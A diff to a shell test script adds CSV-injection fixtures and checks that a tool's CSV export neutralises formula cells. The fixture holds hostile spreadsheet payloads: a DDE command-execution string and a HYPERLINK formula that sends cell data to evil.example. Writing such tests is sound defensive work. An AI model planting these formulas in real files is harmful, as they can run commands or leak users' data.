@@ -2,7 +2,9 @@
 # export_csv.sh JMAP SOURCE_DIR - `jmap export --format csv` read back with
 # python3's csv module: a header row, then one row per irritant whose fields
 # equal the JSON export's, with RFC 4180 quoting (CRLF rows, quotes doubled)
-# surviving commas, quotes and line breaks in the text.
+# surviving commas, quotes and line breaks in the text, and fields that a
+# spreadsheet would run as a formula (=, +, -, @, tab, CR first) prefixed
+# with an apostrophe (OWASP's rule against CSV injection).
 set -u
 jmap=$1
 src=$2
@@ -29,7 +31,26 @@ stages:
             remedy: "Line one\nline two\r\nline three"
 EOF
 
-for map in "$src"/maps/*.yaml "$tmp/quoting.yaml"; do
+cat >"$tmp/formula.yaml" <<'EOF'
+jmap: 1
+title: Formulas
+departments: {d: "=cmd|' /C calc'!A0"}
+stages:
+  - id: s
+    name: "+33 hotline"
+    steps:
+      - name: "@SUM(A1:A9)"
+        irritants:
+          - name: '=HYPERLINK("http://evil.example/?"&A1, "Click")'
+            owner: d
+            remedy: "-20 % on the next order"
+          - name: "\tTabbed"
+            remedy: "\rReturn"
+          - name: "A plain one, = inside"
+            remedy: "Fine - really"
+EOF
+
+for map in "$src"/maps/*.yaml "$tmp/quoting.yaml" "$tmp/formula.yaml"; do
     if ! "$jmap" export --format csv "$map" >"$tmp/out.csv" 2>"$tmp/err" ||
         ! "$jmap" export --format json "$map" >"$tmp/out.json" 2>>"$tmp/err"; then
         echo "FAIL: export $map"
@@ -53,12 +74,17 @@ expect(rows[0] == ["stage", "step", "irritant", "severity", "frequency", "owner"
        "header row")
 stages = {s["id"]: s["name"] for s in graph["stages"]}
 departments = {d["id"]: d["name"] for d in graph["departments"]}
+def cell(v):
+    return "'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v
 want = []
 for s in graph["steps"]:
     for ir in s["irritants"]:
-        want.append([stages[s["stage"]], s["name"], ir["name"], ir["severity"],
-                     "" if ir["frequency"] is None else str(ir["frequency"]),
-                     departments.get(ir["owner"], ir["owner"] or ""), ir["remedy"] or ""])
+        want.append([cell(v) for v in (
+            stages[s["stage"]], s["name"], ir["name"], ir["severity"],
+            "" if ir["frequency"] is None else str(ir["frequency"]),
+            departments.get(ir["owner"], ir["owner"] or ""), ir["remedy"] or "")])
+if name.endswith("formula.yaml"):
+    expect(sum(c.startswith("'") for r in rows for c in r) == 11, "eleven neutralised cells")
 expect(rows[1:] == want, "rows differ from the JSON export:\n%s\n%s" % (rows[1:], want))
 expect(all(len(r) == 7 for r in rows), "seven fields per row")
 # Every record ends with CRLF (RFC 4180); bare line breaks only inside quotes.
